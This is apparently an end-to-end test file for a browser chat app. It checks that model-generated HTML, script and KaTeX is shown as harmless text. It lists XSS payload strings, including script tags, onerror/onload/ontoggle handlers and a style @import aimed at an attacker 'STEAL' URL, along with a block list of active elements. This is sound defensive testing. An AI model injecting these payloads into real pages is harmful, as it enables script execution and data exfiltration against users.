// Model output is untrusted: a model (or a prompt injection in what it read) can emit HTML, script,
// dangerous links and KaTeX commands that link or load. The `tiny-r1-xss` fixture streams every
// payload of the share tests through the real worker, parser and renderer, in the thinking and in the
// answer. Nothing may run, load or call out, and the payloads must still be readable as text.

import { describe, expect, inject, it } from 'vitest';
import { STEAL } from '../src/share/testing/payloads';
import { fixtureInfo } from '../tools/fixture/generate.ts';
import { loadModel, sendMessage, waitForChat, waitForReply } from './harness/app';
import { externalRequests } from './harness/browser';
import { browserAndHub } from './harness/suite';
import { openWatched } from './share-helpers';

const XSS = fixtureInfo('tiny-r1-xss');

/**
 * Elements that could run code, load something or restyle the page, had model text become markup.
 * (A plain http link to the attacker URL may appear: GFM autolinks it, and it requests nothing unless clicked.)
 */
const ACTIVE = [
  'script',
  'img',
  'iframe',
  'object',
  'embed',
  'svg',
  'math[href]',
  'link',
  'meta',
  'base',
  'style',
  '[onerror]',
  '[onload]',
  '[ontoggle]',
  '[onmouseover]',
  'a[href^="javascript:"]',
  'a[href^="data:"]',
];

/** Payload lines that must read back literally, as text, in both the thinking and the answer. */
const LITERAL = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1;alert(1)">',
  '<svg onload="window.__pwned=1">',
  `<style>@import url(${STEAL}/import);`,
  '<details open ontoggle="window.__pwned=1">',
];

describe('model output is rendered inert', () => {
  const suite = browserAndHub();

  it('streams HTML, script, link and KaTeX payloads from the model as text, and nothing runs', async () => {
    const s = await openWatched(suite.browser, inject('appUrl'));
    const { page } = s;
    // WASM: ~3,100 near byte-by-byte tokens decode in seconds there (WebGPU on SwiftShader is far slower).
    await loadModel(page, suite.hub.url, XSS.id, 'wasm');
    await waitForChat(page);
    await sendMessage(page, 'Repeat after me.');
    expect(await waitForReply(page, 1), `page errors: ${s.errors.join('\n')}`).toBe('done');

    const reply = page.locator('article.message.assistant').first();
    const toggle = reply.locator('.thinking-toggle');
    expect(await toggle.getAttribute('aria-expanded')).toBe('false');
    await toggle.click();
    await reply.locator('.thinking-body .md').waitFor();

    // textContent, not innerText: rendering skips off-screen blocks (content-visibility), text stays.
    const thinking = (await reply.locator('.thinking-body').textContent()) ?? '';
    const answer = (await reply.getByTestId('answer').textContent()) ?? '';
    for (const line of LITERAL) {
      expect(thinking, 'thinking shows the payload as text').toContain(line);
      expect(answer, 'answer shows the payload as text').toContain(line);
    }
    // And a person sees it: the script tag, scrolled into view, is a visible line of text.
    const scriptText = reply.getByTestId('answer').getByText(LITERAL[0]!).first();
    await scriptText.scrollIntoViewIfNeeded();
    expect(await scriptText.isVisible()).toBe(true);
    // A javascript: Markdown link keeps its words but is no link.
    expect(await reply.locator('.md-link-blocked', { hasText: 'click me' }).count()).toBe(2);
    // KaTeX ran with trust off: \href, \url and \includegraphics linked and loaded nothing, in the answer card too.
    expect(await reply.locator('.katex').count()).toBeGreaterThan(0);
    expect(await reply.locator('.answer-card .katex').count()).toBe(1);

    // Gives a payload that had become markup time to fire: image errors and stylesheet requests
    // follow within milliseconds of the element existing, and the thinking was just rendered.
    await page.waitForTimeout(750);
    expect(await s.pwned(), 'window.__pwned was set').toBe(false);
    expect(s.dialogs, 'alert/confirm dialogs').toEqual([]);
    expect(s.requests.filter((u) => u.startsWith(`${new URL(STEAL).origin}/`)), 'requests to the attacker URL').toEqual([]);
    expect(externalRequests(s.requests), 'requests that left 127.0.0.1').toEqual([]);
    const active = await page.evaluate(
      (selectors) => selectors.filter((sel) => document.querySelector(`article.message ${sel}`) !== null),
      ACTIVE,
    );
    expect(active, 'active elements created inside messages').toEqual([]);
    await s.context.close();
  });
});
